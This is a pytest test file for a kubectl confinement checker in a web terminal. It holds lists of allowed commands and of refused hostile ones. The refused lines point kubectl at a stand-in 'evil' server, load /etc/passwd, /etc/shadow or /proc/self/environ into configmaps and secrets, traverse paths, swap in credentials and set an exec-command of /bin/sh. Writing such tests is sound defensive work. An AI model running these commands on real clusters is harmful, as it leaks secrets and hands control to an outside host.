"""The fence around kubectl: what runs, what does not, and that nothing made of the two gets out."""

import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webui.terminal import confinement, flags
from webui.terminal.words import Refusal
from webui.texts import TEXTS

ALLOWED = """
get pods
get pods -A -o wide
get po,svc -n kube-system -l app=web --sort-by=.metadata.name
-n kube-system get pods
get pods -Aw
apply -f nginx-deploy.yaml
apply -f a.yaml -f b.yaml --server-side --force-conflicts
apply -Rf .
apply -f *.yaml --dry-run=server
delete -f nginx-deploy.yaml --grace-period=0 --force
logs -f web --tail=5 --timestamps
logs -fp web -c app
exec web -- cat /etc/hostname
exec -it web -- sh -c "echo --server=x"
run web --image=nginx/nginx:v1 --command -- sleep 5
create deployment web --image=nginx/nginx:v1 -r 2
create configmap c --from-file=key=web.yaml --from-literal=a=/etc/x
create secret tls s --cert=tls.crt --key=tls.key
patch deploy web -p '{"spec":{"replicas":3}}'
patch deploy web --patch-file p.yaml
config set-context --current --namespace=web
config view --minify --raw
rollout status deploy/web --timeout=20s
set image deploy/web app=nginx/nginx:v2
wait --for=condition=Ready pod/web --timeout=-1s
auth can-i list pods --as=jane
explain pod.spec --recursive
get --raw /readyz?verbose
debug web -it --image=busybox:1 --profile=general -- sh
debug web -it --copy-to=copy --container=app -- sh
debug -it node/k8snode1 --image=busybox
attach -it web
run -it --rm shell --image=busybox --restart=Never
cp web:/etc/hostname hostname.txt
cp a.yaml web:/tmp/a.yaml -c app
cp default/web:/tmp . --retries=2 --no-preserve
get pods -o jsonpath={.items[*].metadata.name}
get pods -o=custom-columns=NAME:.metadata.name
version --client
--help
"""
REFUSED = """
proxy
port-forward web 80
edit pod web
cp web:/x /tmp/x
cp web:/x ../x
cp /etc/passwd web:/x
cp ../../x web:/x
cp web:/x -
cp -- /etc/passwd web:/x
cp web:/x a/../../x
cp ./:x web:/x
cp web:/x --server=http://evil x
plugin list
kustomize .
alpha debug
convert -f a.yaml
completion bash
certificate approve x
get pods -s http://evil
get pods -s=http://evil
get pods -As http://evil
get pods -shttp://evil
get pods --server http://evil
get pods --server=http://evil
-s http://evil get pods
--server=http://evil get pods
get pods --kubeconfig=/root/.kube/config
get pods --kubeconfig /x
get pods --token=x
get pods --certificate-authority=/etc/passwd
get pods --client-key=/etc/shadow
get pods --cache-dir=/tmp/x
get pods --cache_dir=/tmp/x
get pods --kuberc=/tmp/x
get pods --profile=cpu --profile-output=/tmp/x
get pods --profile_output=/tmp/x
get pods --insecure-skip-tls-verify
get pods --tls-server-name=x
get pods --vmodule=x=9
get pods --no-such-flag
get -f /etc/passwd
get -f=/etc/passwd
get -f/etc/passwd
get -Rf/etc
get --filename=/etc/passwd
get --filename /etc/passwd
get -f ../x
get -f a/../../x
get -f http://evil/x.yaml
get -f https://evil/x.yaml
get -f a.yaml,/etc/passwd
get -f '"/etc/passwd"'
get -f 'a.yaml,"/etc/passwd"'
get -f ~/x
get -f -
apply -k .
apply -k github.com/x/y
apply -Rk .
apply edit-last-applied deploy/web
apply -f a.yaml edit-last-applied deploy/web
create -f a.yaml --edit
create configmap c --from-file=/etc/passwd
create configmap c --from-file=key=/etc/passwd
create configmap c --from-file=a=web.yaml,b=/etc/passwd
create configmap c --from-env-file=/proc/self/environ
create secret tls s --cert=/etc/passwd --key=/etc/shadow
patch deploy web --patch-file=/etc/passwd
get pods -o jsonpath-file=/etc/passwd
get pods -o go-template-file=/etc/passwd
get pods -ogo-template-file=/etc/passwd
get pods -o=custom-columns-file=/etc/passwd
get pods --output templatefile --template=/etc/passwd
config set clusters.podlife-main.server http://evil
config set-cluster x --server=http://evil
config set-credentials x --exec-command=/bin/sh
config --foo set-cluster x
config unset users
config view set-cluster
cluster-info dump --output-directory=/tmp
cluster-info --x dump
--watch get proxy
-A get proxy
get pods -l -- --server=http://evil
get pods -n -- -s http://evil
exec -c -- -s http://evil
debug web --custom=/etc/passwd
rollout edit x
set env deploy/web --containers -- --server=http://evil
set env deploy/web --prefix -- --server=http://evil
"""


@pytest.mark.parametrize("line", ALLOWED.strip().splitlines())
def test_what_a_learner_types_runs(line):
    confinement.check(shlex.split(line))


@pytest.mark.parametrize("line", REFUSED.strip().splitlines())
def test_what_leads_out_is_refused(line):
    with pytest.raises(Refusal):
        confinement.check(shlex.split(line))


def test_a_pipe_may_be_read_but_only_a_pipe():
    confinement.check(["apply", "-f", "-"], has_input=True)
    with pytest.raises(Refusal):
        confinement.check(["apply", "-f", "-"])


OUTSIDE = [
    "--server=http://evil",
    "-s",
    "-shttp://evil",
    "--kubeconfig=/x",
    "--token=t",
    "-f/etc/passwd",
    "--filename=../x",
    "-k",
    "--cache-dir=/x",
    "--edit",
]
INSIDE = [
    "get",
    "pods",
    "-A",
    "-w",
    "-n",
    "kube-system",
    "-l",
    "a=b",
    "-o",
    "wide",
    "--watch",
    "--selector",
    "-it",
    "logs",
    "-f",
    "a.yaml",
    "-R",
    "exec",
    "web",
]


@pytest.mark.slow
@settings(max_examples=400)
@given(
    st.lists(st.sampled_from(INSIDE), max_size=6),
    st.sampled_from(OUTSIDE),
    st.lists(st.sampled_from([*INSIDE, "--"]), max_size=6),
    st.sampled_from(["get", "logs", "exec", "apply"]),
)
def test_no_company_of_other_words_lets_a_forbidden_flag_pass(before, bad, after, command):
    with pytest.raises(Refusal):
        confinement.check([command, *before, bad, *after])


@pytest.mark.slow
@settings(max_examples=300)
@given(st.lists(st.text(alphabet="-=,/.~abfknos\"'_", max_size=8), max_size=6))
def test_any_words_are_allowed_or_refused_and_no_path_leads_out(words):
    try:
        confinement.check(["get", *words])
    except Refusal:
        return
    before = words[: words.index("--")] if "--" in words else words
    for at, word in enumerate(before):
        value = word[2:] if word.startswith("-f") and len(word) > 2 else before[at + 1] if word == "-f" and at + 1 < len(before) else ""
        assert not value.startswith(("/", "=/")) and ".." not in value.split("/")


def test_every_reason_has_its_words():
    assert set(flags.REASONS.values()) <= TEXTS.keys()
    asked = {key for path in Path(flags.__file__).parent.glob("*.py") for key in re.findall(r'"(terminal\.\w+)"', path.read_text())}
    assert len(asked) > 25 and asked <= TEXTS.keys()
